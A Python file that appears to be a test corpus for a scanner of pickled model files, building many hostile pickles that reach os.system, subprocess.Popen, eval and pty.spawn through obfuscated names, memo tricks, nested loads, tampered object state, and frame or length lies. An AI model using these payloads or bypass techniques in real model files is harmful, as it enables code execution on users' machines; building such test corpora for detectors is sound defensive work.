"""Hostile pickles whose opcodes mislead: how a name is made, called, hidden; state, frames, lengths; raw arrays."""

from __future__ import annotations

import base64
import gzip
import pickle
import struct
import zlib
from collections.abc import Iterator

from corpora.hostile_pickles import CODE, RUN, SHELL, listed
from corpora.units import BOMB, BROKEN, CALLED, HIDDEN, NAMED, ODD, TAMPERED, Unit, unit
from modelfile_samples import (
    ECHO,
    EVIL,
    PLAIN,
    arguments,
    atom,
    call,
    joblib_array,
    name,
    old_name,
    reduced,
    stream,
    text,
    torch_zip,
)
from shipworthy.modelfile import Code

OS = reduced("importlib", "import_module", "os")


def put(index: int) -> bytes:
    return b"q" + bytes([index])


def get(index: int) -> bytes:
    return b"h" + bytes([index])


def quoted(value: str) -> bytes:
    return b"S'" + value.encode() + b"'\n"


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


MAP = name("builtins", "map")
ORDERED = name("collections", "OrderedDict")
SYSTEM = listed(ECHO)
# How a name is found and called; each by itself reaches a shell.
RESOLVED: dict[str, bytes] = {
    "getattr": stream(name("builtins", "getattr") + arguments([OS], "system") + b"R" + RUN),
    "nested getattr": stream(
        name("builtins", "getattr")
        + arguments([reduced("builtins", "getattr", [name("logging", "config")], "os")], "system")
        + b"R"
        + RUN
    ),
    "attrgetter": stream(reduced("operator", "attrgetter", "system") + arguments([OS]) + b"R" + RUN),
    "methodcaller": stream(reduced("operator", "methodcaller", "system", ECHO) + arguments([OS]) + b"R"),
    "itemgetter": stream(reduced("operator", "itemgetter", "eval") + arguments([name("numpy", "__builtins__")]) + b"R"),
    "vars of a module": stream(reduced("builtins", "vars", [name("logging", "os")])),
    "__dict__ of a module": stream(name("logging", "os.__dict__")),
    "globals": stream(reduced("builtins", "globals")),
    "resolve_name": stream(reduced("pkgutil", "resolve_name", "os:system") + RUN),
    "dotted name": call("logging", "os.system", ECHO),
    "dotted name of torch": stream(old_name("torch.serialization", "os.system") + RUN),
    "dotted name of numpy": call("numpy.lib._npyio_impl", "os.system", ECHO),
    "dotted name of collections": call("collections", "_sys.modules.get", "os"),
    "dotted name of codecs": call("_codecs", "encode.__self__.__import__", "os"),
    "dotted name of an allowed class": call("collections", "OrderedDict.__init__.__globals__", ECHO),
    "subclasses": call("builtins", "object.__subclasses__"),
    "name with a space": call("os ", "system", ECHO),
    "name in fullwidth letters": call("os", "ｓystem", ECHO),
    "module with a null byte": call("os\0", "system", ECHO),
    "empty name": call("os", "", ECHO),
    "relative module": call(".os", "system", ECHO),
    "module of another case": call("OS", "System", ECHO),
    "old module name": stream(old_name("__builtin__", "eval") + RUN, protocol=2),
    "old name commands": stream(old_name("commands", "getoutput") + RUN, protocol=2),
    "old name of copy_reg": stream(old_name("copy_reg", "_reconstructor") + arguments([SHELL]) + b"R", protocol=2),
    "GLOBAL with a carriage return": stream(b"cos\r\nsystem\r\n" + RUN, protocol=2),
    "memo decoy": stream(
        text("os")
        + put(0)
        + text("system")
        + put(1)
        + text("torch._utils")
        + text("_rebuild_tensor_v2")
        + b"0000"
        + get(0)
        + get(1)
        + b"\x93"
        + RUN
    ),
    "memo written over": stream(
        text("collections") + put(5) + b"0" + text("posix") + put(5) + b"0" + get(5) + text("system") + b"\x93" + RUN
    ),
    "MEMOIZE beside PUT": stream(
        text("posix") + b"\x94" + text("system") + put(7) + b"00" + get(0) + get(7) + b"\x93" + RUN
    ),
    "text memo keys": stream(text("posix") + b"p900\n0" + text("system") + b"p901\n0g900\ng901\n\x93" + RUN),
    "long memo keys": stream(text("posix") + b"r\xff\xff\x01\0000j\xff\xff\x01\0" + text("system") + b"\x93" + RUN),
    "operands with noise": stream(
        text("posix") + b"\x80\x04" + b"N0" + text("system") + frame(0) + b"20" + b"\x93" + RUN
    ),
    "operands as old strings": stream(quoted("posix") + quoted("system") + b"\x93" + RUN),
    "operands as unicode lines": stream(b"Vposix\nVsyste\\u006d\n\x93" + RUN),
    "operands as BINUNICODE8": stream(
        b"\x8d" + struct.pack("<Q", 5) + b"posix" + b"\x8d" + struct.pack("<Q", 6) + b"system" + b"\x93" + RUN
    ),
    "operands as bytes": stream(b"C\x05posixC\x06system\x93" + RUN),
    "joined module": stream(
        reduced("builtins", "str.join", "", [listed("po", "six")]) + text("system") + b"\x93" + RUN
    ),
    "replaced module": stream(reduced("builtins", "str.replace", "poXsix", "X", "") + text("system") + b"\x93" + RUN),
    "decoded module": stream(reduced("_codecs", "decode", b"cbfvk", "rot13") + text("system") + b"\x93" + RUN),
    "encoded module": stream(reduced("_codecs", "encode", "posix", "latin1") + text("system") + b"\x93" + RUN),
    "intern": stream(reduced("sys", "intern", "posix") + text("system") + b"\x93" + RUN),
    "computed callable": stream(reduced("collections", "OrderedDict") + arguments(ECHO) + b"R"),
    "INST": b"(" + quoted(ECHO) + b"ios\nsystem\n.",
    "INST in protocol 4": stream(b"(" + quoted(ECHO) + b"ios\nsystem\n"),
    "OBJ": b"(" + old_name("pty", "spawn") + quoted("id") + b"o.",
    "NEWOBJ of map": stream(name("builtins", "bytes") + b"(" + MAP + b"(" + SHELL + SYSTEM + b"t\x81t\x81"),
    "NEWOBJ_EX of map": stream(
        name("builtins", "tuple") + arguments([MAP + arguments([SHELL], [SYSTEM]) + b"}\x92"]) + b"}\x92"
    ),
    "NEWOBJ of filter": stream(name("builtins", "filter") + arguments([SHELL], [SYSTEM]) + b"\x81"),
    "frozenset of map": stream(
        name("builtins", "frozenset") + arguments([MAP + arguments([SHELL], [SYSTEM]) + b"R"]) + b"R"
    ),
    "APPENDS drive an iterator": stream(
        reduced("collections", "deque") + b"(" + MAP + arguments([SHELL], [SYSTEM]) + b"Re"
    ),
    "iter with a callable": stream(reduced("builtins", "iter", [SHELL], 0)),
    "sorted with a key": stream(name("builtins", "sorted") + arguments([SYSTEM], [SHELL]) + b"R"),
    "starmap": stream(
        name("collections", "deque")
        + arguments([reduced("itertools", "starmap", [SHELL], [listed([arguments(ECHO)])])])
        + b"R"
    ),
    "accumulate": stream(reduced("itertools", "accumulate", [SYSTEM], [SHELL])),
    "partial": stream(reduced("functools", "partial", [SHELL], ECHO) + b")R"),
    "partial by state": stream(
        reduced("functools", "partial", [name("builtins", "print")])
        + arguments([SHELL], [arguments(ECHO)], [b"}"], [b"}"])
        + b"b)R"
    ),
    "functools.reduce": stream(
        reduced("functools", "reduce", [name("builtins", "getattr")], [listed("system")], [name("logging", "os")]) + RUN
    ),
    "lru_cache": stream(reduced("functools", "lru_cache", 1) + arguments([SHELL]) + b"R"),
    "cached_property": stream(reduced("functools", "cached_property", [SHELL])),
    "defaultdict": stream(reduced("collections", "defaultdict", [SHELL])),
    "namedtuple": stream(reduced("collections", "namedtuple", "X", "a b")),
    "enum": stream(reduced("enum", "Enum", "X", "a b")),
    "dataclass": stream(reduced("dataclasses", "make_dataclass", "X", [listed("a")])),
    "FunctionType": stream(
        name("types", "FunctionType") + arguments([reduced("marshal", "loads", CODE)], [b"}"]) + b"R)R"
    ),
    "MethodType": stream(reduced("types", "MethodType", [SHELL], ECHO) + b")R"),
    "GenericAlias": stream(reduced("types", "GenericAlias", [name("subprocess", "Popen")], [b")"])),
    "cloudpickle function": stream(
        name("cloudpickle.cloudpickle", "_make_function")
        + arguments([reduced("marshal", "loads", CODE)], [b"}"], None, None, None)
        + b"R"
    ),
    "dill function": stream(
        name("dill._dill", "_create_function") + arguments([reduced("dill._dill", "_create_code", 0)], [b"}"]) + b"R"
    ),
    "reconstructor": stream(
        reduced("copyreg", "_reconstructor", [name("subprocess", "Popen")], [name("builtins", "object")], None)
    ),
    "__newobj__": stream(reduced("copyreg", "__newobj__", [name("subprocess", "Popen")], "id")),
    "__newobj_ex__": stream(reduced("copyreg", "__newobj_ex__", [name("subprocess", "Popen")], [b")"], [b"}"])),
    "extension added": stream(reduced("copyreg", "add_extension", "posix", "system", 200) + b"0\x82\xc8" + RUN),
    "loads in loads": call("pickle", "loads", call("pickle", "loads", EVIL)),
    "loads of hex": stream(
        name("pickle", "loads")
        + arguments([reduced("zlib", "decompress", [reduced("builtins", "bytes.fromhex", zlib.compress(EVIL).hex())])])
        + b"R"
    ),
    "loads of base64": stream(
        name("pickle", "loads") + arguments([reduced("base64", "b64decode", base64.b64encode(EVIL))]) + b"R"
    ),
    "torch's own loads": call("torch.storage", "_load_from_bytes", EVIL),
    "nested by pandas": call("pandas.core.internals.managers", "_unpickle_block", EVIL, EVIL, 1),
    "protocol 0": b"cos\nsystem\n(S'" + ECHO.encode() + b"'\ntR.",
    "protocol 1": b"cos\nsystem\n(X\x02\0\0\0idtR.",
    "protocol 5": stream(SHELL + RUN, protocol=5),
    "protocol 5 with a bytearray": stream(b"\x96" + struct.pack("<Q", 3) + b"abc0" + SHELL + RUN, protocol=5),
    "protocol 5 out of band": stream(b"\x97\x98" + b"0" + SHELL + RUN, protocol=5),
    "protocol 9": b"\x80\x09" + EVIL[2:],
    "persistent id computed": stream(SHELL + RUN + b"Q"),
    "setitem into a module": stream(name("sys", "modules") + text("json") + name("evil", "module") + b"s"),
    "setitem into environ": stream(name("os", "environ") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s"),
    "append to the path": stream(name("sys", "path") + text("/tmp") + b"a"),
    "dict with a callable's items": stream(b"(" + SHELL + RUN + text("a") + b"d"),
    "in a set": stream(b"\x8f(" + SHELL + RUN + b"\x90"),
    "behind many marks": stream(b"(" * 5000 + SHELL + RUN),
    "behind opcodes": stream(b"N0" * 750_000, SHELL + RUN),
    "behind names": stream((ORDERED + b"0") * 20_000, SHELL + RUN),
    "behind LONG4": stream(b"\x8b" + struct.pack("<i", 300) + b"\1" * 300 + b"0", SHELL + RUN),
    "behind an underscored number": stream(b"I1_0\n0", SHELL + RUN),
    "behind a float line": stream(b"F1e400\n0", SHELL + RUN),
    "behind a long line": stream(b"L" + b"9" * 4000 + b"L\n0", SHELL + RUN),
    "second stream": PLAIN + EVIL,
    "third stream": PLAIN + PLAIN + EVIL,
    "gap between streams": PLAIN + b"\0" * 4096 + EVIL,
    "invalid opcode behind": EVIL[:-1] + b"\xff\xfe broken",
    "cut before STOP": EVIL[:-1],
    "bad number behind": EVIL[:-1] + b"Ixyz\n.",
    "POP of an empty stack behind": EVIL[:-1] + b"0000.",
    "bad memo key behind": EVIL[:-1] + b"hZ.",
    "invalid UTF-8 behind": EVIL[:-1] + b"\x8c\x02\xff\xfe.",
    "in a BUILD of nothing": stream(SHELL + RUN + b"}b"),
}
IMPORTED = {
    "unknown module": stream(name("evilpkg.backdoor", "weights")),
    "unknown module by INST": b"(ievilpkg\nx\n.",
    "environment": stream(name("os", "environ")),
    "antigravity": stream(name("antigravity", "webbrowser")),
    "this": stream(name("this", "s")),
    "test module": stream(name("test.__main__", "main")),
    "idle": stream(name("idlelib.idle", "idlelib")),
    "main": stream(name("__main__", "payload")),
    "popped": stream(name("evilpkg.backdoor", "weights") + b"0N"),
    "extension code": stream(b"\x82\xc8" + RUN),
    "extension code of two bytes": stream(b"\x83\xc8\x01" + RUN),
    "private of numpy": stream(name("numpy", "__builtins__")),
    "class of distutils": stream(name("distutils.core", "setup")),
}


def state(target: bytes, *pairs: tuple[str, bytes]) -> bytes:
    return stream(target + b"}(" + b"".join(text(key) + value for key, value in pairs) + b"ub")


EMPTY = ORDERED + b")R"
ESTIMATOR = name("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81"
STATES: dict[str, bytes] = {
    "__setstate__ becomes a shell": stream(EMPTY + b"}" + text("__setstate__") + SHELL + b"sb" + text(ECHO) + b"b"),
    "__reduce__": state(EMPTY, ("__reduce__", SHELL)),
    "__class__": state(EMPTY, ("__class__", name("subprocess", "Popen"))),
    "__del__": state(ESTIMATOR, ("__del__", SHELL)),
    "method of an estimator": state(ESTIMATOR, ("predict", SHELL)),
    "allowed function as a method": state(ESTIMATOR, ("predict", name("builtins", "eval"))),
    "class itself": state(ORDERED, ("__init__", SHELL)),
    "class itself, harmless value": state(
        name("sklearn.linear_model._logistic", "LogisticRegression"), ("predict", text("x"))
    ),
    "slots of a class": stream(ORDERED + b"N}" + text("__call__") + SHELL + b"s\x86b"),
    "function's code": state(name("numpy", "size"), ("__code__", b"N")),
    "function's defaults": stream(name("numpy", "mean") + b"N}" + text("__defaults__") + b")s\x86b"),
    "function's globals": stream(
        name("numpy", "size")
        + put(1)
        + name("numpy", "__builtins__")
        + put(3)
        + b"0}}"
        + text("shape")
        + get(3)
        + b"s\x86b"
        + get(1)
        + get(1)
        + text("eval")
        + b"\x86R"
        + text("1")
        + b"\x85R"
    ),
    "module's attribute": state(name("logging", "os"), ("system", SHELL)),
    "torch module": state(name("torch.nn.modules.linear", "Linear") + b")\x81", ("forward", SHELL)),
    "torch hooks": state(
        name("torch.nn.modules.linear", "Linear") + b")\x81", ("_forward_hooks", b"}J\0\0\0\0" + SHELL + b"s")
    ),
    "torch class": state(name("torch.nn.modules.linear", "Linear"), ("forward", SHELL)),
    "numpy dtype's metadata": stream(
        name("numpy", "dtype")
        + arguments("f8")
        + b"R("
        + atom(4)
        + text("<")
        + b"NNN"
        + atom(-1)
        + atom(-1)
        + atom(0)
        + b"}"
        + text("x")
        + SHELL
        + RUN
        + b"stb"
    ),
    "ndarray of objects by state": stream(
        reduced("numpy.core.multiarray", "_reconstruct", [name("numpy", "ndarray")], [arguments(0)], b"b")
        + arguments(1, [arguments(1)], [reduced("numpy", "dtype", "O")], False, [listed([SHELL + RUN])])
        + b"b"
    ),
    "random state": stream(reduced("numpy.random._pickle", "__generator_ctor", [SHELL])),
    "bit generator": stream(reduced("numpy.random._pickle", "__bit_generator_ctor", [name("subprocess", "Popen")])),
    "BUILD of a reduce": stream(reduced("functools", "partial", [name("numpy", "mean")]) + SHELL + b"b"),
}
# Lies about lengths and frames: the unpicklers of CPython differ, or memory runs out.
LIES: dict[str, tuple[bytes, frozenset[Code]]] = {
    "frame cuts a name": (b"\x80\x04" + frame(4) + b"cxxxos\nsystem\n.", BROKEN | NAMED),
    "frame goes on behind STOP": (b"\x80\x04" + frame(8) + b"N.xxxxxxcos\nsystem\n.", BROKEN | NAMED),
    "frame in a frame": (b"\x80\x04" + frame(30) + frame(2) + b"N0cos\nsystem\n." + b"N" * 40, BROKEN | NAMED),
    "frame beyond the file": (b"\x80\x04" + frame(1 << 40) + b"N.", BROKEN),
    "frame of 2^63": (b"\x80\x04" + frame(1 << 63) + b"N.", BROKEN),
    "frame cuts a string": (b"\x80\x04" + frame(3) + b"\x8c\x08abcosystem00N.", BROKEN),
    "frame cuts STACK_GLOBAL": (
        b"\x80\x04" + frame(8) + text("posix") + text("system") + b"\x93" + RUN + b".",
        BROKEN | CALLED,
    ),
    "frame cuts an integer": (b"\x80\x04" + frame(2) + b"J\0\0\0\0" + b".", BROKEN),
    "bytes of 2^50": (stream(b"B\0\0\0\x7f"), BOMB),
    "bytearray of 2^50": (b"\x80\x05\x96" + struct.pack("<Q", 1 << 50) + b"x.", BOMB),
    "memo key of 2^31": (stream(b"Nr\xff\xff\xff\x7f"), BOMB),
    "memo key of 2^60 as text": (stream(b"Np1152921504606846976\n"), BOMB),
    "LONG4 of 2^31": (stream(b"\x8b\xff\xff\xff\x7f1"), BOMB),
    "negative LONG4": (stream(b"\x8b\xff\xff\xff\xff"), BROKEN),
    "negative BINSTRING": (b"\x80\x02T\xff\xff\xff\xff.", BROKEN),
    "negative PUT": (b"\x80\x02Np-1\n.", BROKEN),
    "doubled tuples": (stream(b"N" + b"2\x86" * 200 + b"N"), BOMB | {Code.STATE_TAMPERING}),
    "name without an end": (b"\x80\x02cos\nsystemX", BROKEN | NAMED),
    "STOP alone": (b"\x80\x04.", BROKEN),
    "junk behind STOP": (PLAIN + b"\x01\x02\x03\x04" * 50, ODD),
    "text behind STOP": (PLAIN + b"#!/bin/sh\necho\n", ODD | {Code.FOREIGN_CONTENT}),
    "program behind STOP": (PLAIN + b"\x7fELF\x02\x01\x01" + bytes(200), ODD | {Code.FOREIGN_CONTENT}),
}


def raw(count: int) -> bytes:
    return bytes((n * 89 + 7) % 251 for n in range(count))


JOBLIB: dict[str, tuple[bytes, frozenset[Code]]] = {
    "behind an array": (stream(joblib_array(raw(512), 64), SHELL, RUN, b"\x86"), CALLED),
    "behind two arrays": (stream(joblib_array(raw(80), 10), joblib_array(raw(8), 1), SHELL, RUN), CALLED),
    "within a larger array": (stream(joblib_array(raw(8), 1) + raw(64), SHELL, RUN), BROKEN | CALLED),
    "array of objects": (stream(joblib_array(EVIL, 1, "O")), CALLED),
    "array of 2^50": (stream(joblib_array(raw(8), 1 << 30)), BOMB),
    "negative shape": (stream(joblib_array(raw(8), -1), SHELL, RUN), BROKEN | CALLED),
    "unknown type": (stream(joblib_array(raw(8), 1, "x9"), SHELL, RUN), BROKEN | CALLED),
    "subclass is a shell": (
        stream(joblib_array(raw(8), 1).replace(name("numpy", "ndarray"), name("posix", "system"))),
        TAMPERED,
    ),
    "subclass is memmap": (
        stream(joblib_array(raw(8), 1).replace(name("numpy", "ndarray"), name("numpy", "memmap"))),
        TAMPERED | {Code.UNKNOWN_NAME},
    ),
    "old wrapper that names a file": (
        stream(
            name("joblib.numpy_pickle", "NDArrayWrapper")
            + b")\x81}"
            + text("filename")
            + text("../../etc/passwd")
            + b"sb"
        ),
        NAMED | TAMPERED | {Code.PATH_TRAVERSAL, Code.EXTERNAL_DATA},
    ),
    "old wrapper of zlib": (
        stream(name("joblib.numpy_pickle", "ZNDArrayWrapper") + b")\x81}" + text("filename") + text("/tmp/x") + b"sb"),
        NAMED | TAMPERED | {Code.PATH_TRAVERSAL, Code.EXTERNAL_DATA},
    ),
}
# Classes and functions that honest files name, called by an attacker: constructors that open, write, load or run.
CONSTRUCTORS = {
    "numpy:ndarray": ([name("subprocess", "Popen")],),
    "numpy:recarray": ("/tmp/x",),
    "numpy:dtype": ([SHELL],),
    "numpy:load": ("/tmp/x",),
    "numpy.random:RandomState": ([SHELL],),
    "numpy.ma.core:MaskedArray": ([SHELL + RUN],),
    "numpy.core.multiarray:_reconstruct": ([name("numpy", "memmap")], [arguments("/tmp/x")], b"b"),
    "numpy.core.multiarray:scalar": ([reduced("numpy", "dtype", "O")], EVIL),
    "numpy._core.multiarray:scalar": ([reduced("numpy", "dtype", "O")], EVIL),
    "numpy.ma.core:_mareconstruct": ([name("subprocess", "Popen")], None, None, None),
    "numpy:ufunc": ("x",),
    "numpy.core:_ufunc_reconstruct": ("os", "system"),
    "numpy._core:_ufunc_reconstruct": ("os", "system"),
    "numpy.polynomial.polynomial:Polynomial": ([SHELL],),
    "scipy.interpolate._interpolate:interp1d": ([SHELL],),
    "scipy.stats._distn_infrastructure:rv_frozen": ([SHELL],),
    "scipy.sparse._csr:csr_matrix": ([SHELL],),
    "pandas.core.frame:DataFrame": ([SHELL + RUN],),
    "pandas.core.series:Series": ([SHELL],),
    "pandas._libs.internals:_unpickle_block": ([SHELL], [SHELL], 1),
    "pandas.core.indexes.base:_new_Index": ([name("subprocess", "Popen")], [b"}"]),
    "pandas._libs.arrays:__pyx_unpickle_NDArrayBacked": ([name("subprocess", "Popen")], 1, None),
    "sklearn.tree._tree:Tree": ([SHELL],),
    "sklearn.ensemble._forest:RandomForestClassifier": ([SHELL],),
    "sklearn.feature_extraction.text:TfidfVectorizer": ("filename", "utf-8", "x", None, True, [SHELL]),
    "sklearn.utils._bunch:Bunch": ([SHELL],),
    "sklearn.metrics._scorer:_PredictScorer": ([SHELL], 1, [b"}"]),
    "sklearn.base:BaseEstimator": ("x",),
    "torch.nn.modules.container:Sequential": ([SHELL],),
    "torch._utils:_rebuild_tensor_v2": ([SHELL], 0, [b")"], [b")"], False, [b"}"]),
    "torch._utils:_rebuild_parameter_with_state": (1, False, [b"}"], [b"}" + text("grad_fn") + SHELL + b"s"]),
    "torch._utils:_rebuild_wrapper_subclass": ([name("subprocess", "Popen")],),
    "torch._tensor:_rebuild_from_type_v2": ([SHELL], [name("builtins", "object")], [arguments(ECHO)], [b"}"]),
    "torch.nn.parameter:Parameter": ([SHELL],),
    "torch.optim.lr_scheduler:LambdaLR": ([SHELL],),
    "torch.utils.data.dataset:TensorDataset": ([SHELL],),
    "torch:device": ([SHELL],),
    "xgboost.sklearn:XGBClassifier": ("/tmp/x",),
    "xgboost.core:Booster": ([b"}"], [b"]"], "/tmp/model"),
    "lightgbm.sklearn:LGBMClassifier": ("/tmp/x",),
    "collections:OrderedDict": ([MAP + arguments([SHELL], [SYSTEM]) + b"R"],),
    "collections:Counter": ([MAP + arguments([SHELL], [SYSTEM]) + b"R"],),
    "collections:defaultdict": ([name("subprocess", "Popen")],),
    "builtins:bytearray": (1 << 30,),
    "builtins:list": ([MAP + arguments([SHELL], [SYSTEM]) + b"R"],),
    "builtins:range": ([SHELL],),
    "builtins:bytes": (1 << 30, [SHELL]),
    "re:_compile": ("(a+)+$", [SHELL]),
    "datetime:datetime": ([SHELL],),
    "pathlib:PosixPath": ([SHELL],),
    "operator:attrgetter": ("__class__.__subclasses__",),
    "operator:itemgetter": ([SHELL],),
    "functools:partial": ([name("builtins", "eval")], "1"),
    "_codecs:encode": ("x", [SHELL]),
    "uuid:UUID": ([SHELL],),
    "decimal:Decimal": ([SHELL],),
    "types:SimpleNamespace": ([SHELL],),
    "copyreg:_reconstructor": ([name("subprocess", "Popen")], [name("builtins", "object")], None),
}


def pickles() -> Iterator[Unit]:
    for key, data in RESOLVED.items():
        structural = any(word in key for word in ("behind", "stream", "cut"))
        yield unit("ways to a callable", key, data, CALLED | {Code.STATE_TAMPERING}, structural=structural)
    for key, data in IMPORTED.items():
        yield unit("imports", key, data, NAMED)
    for key, data in STATES.items():
        yield unit("state", key, data, TAMPERED)
    for key, (data, codes) in LIES.items():
        yield unit("lengths and frames", key, data, codes, structural=True)
    for key, (data, codes) in JOBLIB.items():
        yield unit("joblib", key, data, codes, "model.joblib")
    for gadget, values in CONSTRUCTORS.items():
        module, qualname = gadget.split(":")
        yield unit("allowed names called", gadget, call(module, qualname, *values), TAMPERED | BOMB)


def nested() -> Iterator[Unit]:
    """In byte strings of an otherwise harmless pickle."""
    for key, inner in {"pickle": EVIL, "zip": torch_zip(EVIL), "gzip": gzip.compress(EVIL)}.items():
        codes = HIDDEN | CALLED
        yield unit("nested", f"{key} in bytes", pickle.dumps({"w": inner, "n": [1, 2]}, 4), codes)
        yield unit("nested", f"{key} in a bytearray", pickle.dumps({"w": bytearray(inner)}, 5), codes)
